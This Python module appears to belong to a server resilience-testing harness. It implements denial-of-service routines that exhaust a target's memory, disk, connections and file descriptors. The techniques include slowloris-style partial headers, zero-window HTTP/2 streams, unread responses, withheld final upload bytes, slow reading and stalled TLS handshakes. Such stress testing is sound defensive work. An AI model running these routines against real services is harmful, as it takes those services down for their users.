"""Attacks that make the service hold something for them: memory, disk, threads, connections."""

from __future__ import annotations

import asyncio
import ssl
from contextlib import suppress
from typing import TYPE_CHECKING

from .wire import DATA, WINDOW, Peer, Target, frame, trusting

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable

ADDRESSES = range(2, 8)
"""So many clients."""


async def crowd(
    target: Target,
    size: int,
    begin: Callable[[Peer], Awaitable[None]],
    *,
    port: int | None = None,
    reads: bool = True,
) -> list[Peer]:
    """Keep so many connections open until the end, each begun in a way; one that is cut is opened again."""
    peers: list[Peer] = []
    gate = asyncio.Semaphore(20)

    async def one(index: int) -> None:
        async with gate:
            try:
                peer = await target.open(port, address=ADDRESSES[index % len(ADDRESSES)], reads=reads)
                peers.append(peer)
                await begin(peer)
            except OSError:
                target.counts["not opened"] += 1

    index = 0
    while not target.over():
        missing = size - len(peers)
        if missing > 0:
            # What is cut comes again, but not all of it at once.
            batch = min(missing, 200)
            await asyncio.gather(*(one(index + each) for each in range(batch)))
            index += batch
        await target.pause(0.1)
        peers[:] = [each for each in peers if not each.lost]
    target.counts["open at the end"] = len(peers)
    for each in peers:
        each.close()
    return peers


async def shut_windows(target: Target) -> None:
    """Streams whose windows are shut, each with an answer of 60 KB that waits."""

    async def begin(peer: Peer) -> None:
        await peer.greet({WINDOW: 0})
        for _ in range(100):
            await peer.send(peer.head("/page")[1])

    await crowd(target, 50 if target.quick else 1000, begin)


async def unread_answers(target: Target) -> None:
    """Ask for the same on connections of which nothing is read."""

    async def begin(peer: Peer) -> None:
        await peer.greet({WINDOW: 2**31 - 1})
        for _ in range(100):
            await peer.send(peer.head("/page")[1])

    await crowd(target, 50 if target.quick else 1000, begin, reads=False)


async def cookies(target: Target) -> None:
    """Heads that wait for their bodies, whose cookie of 4 KB is a byte on the wire."""

    async def begin(peer: Peer) -> None:
        await peer.greet()
        for _ in range(100):
            await peer.send(peer.head("/", ("cookie", "c" * 3900), method="POST", end=False)[1])

    await crowd(target, 50 if target.quick else 1000, begin)


async def part_heads(target: Target) -> None:
    """Heads of HTTP/1.1 that lack their end, 15 KB each."""

    async def begin(peer: Peer) -> None:
        await peer.send(b"GET / HTTP/1.1\r\nHost: x\r\nX-A: " + b"a" * 15_000)

    await crowd(target, 300 if target.quick else 9000, begin)


async def part_bodies(target: Target) -> None:
    """Bodies over HTTP/2 that lack their last byte."""

    async def begin(peer: Peer) -> None:
        await peer.greet()
        for _ in range(10):
            number, head = peer.head("/", ("content-length", "60001"), method="POST", end=False)
            await peer.send(head + frame(DATA, 0, number, bytes(15_000)) * 4)

    await crowd(target, 50 if target.quick else 1500, begin)


async def uploads(target: Target) -> None:
    """Upload 10 MB but for the last byte: that fills the memory, and then the disk."""

    async def begin(peer: Peer) -> None:
        await peer.send(b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 10000000\r\n\r\n")
        for _ in range(100):
            await peer.send(bytes(99_999))
            if peer.lost:
                break

    await crowd(target, 20 if target.quick else 90, begin)


async def slow_readers(target: Target) -> None:
    """110 answers of 20 MB, of which all together take 49 KB a second."""
    peers: list[Peer] = []

    async def begin(peer: Peer) -> None:
        await peer.send(b"GET /large HTTP/1.1\r\nHost: x\r\n\r\n")
        peers.append(peer)

    async def sip() -> None:
        while not target.over():
            for each in peers:
                if not each.lost:
                    each.transport.resume_reading()
            await asyncio.sleep(0)
            for each in peers:
                if not each.lost:
                    each.transport.pause_reading()
            await target.pause(1.0)

    await asyncio.gather(crowd(target, 110, begin, reads=False), sip())


async def idle(target: Target) -> None:
    """More connections than there may be, of which none says anything."""

    async def begin(peer: Peer) -> None:
        del peer

    await crowd(target, 450 if target.quick else 10_400, begin)


async def few_files(target: Target) -> None:
    """1,200 idle connections, where the process may have 1,024 open files."""

    async def begin(peer: Peer) -> None:
        del peer

    await crowd(target, 1200, begin)


async def stalled_handshakes(target: Target) -> None:
    """TLS handshakes that stop after the client's first half of a message."""
    hello = _client_hello()[:100]

    async def begin(peer: Peer) -> None:
        await peer.send(hello)

    await crowd(target, 300 if target.quick else 1500, begin, port=target.tls_port)


def _client_hello() -> bytes:
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = trusting().wrap_bio(incoming, outgoing)
    with suppress(ssl.SSLWantReadError):
        session.do_handshake()
    return outgoing.read()
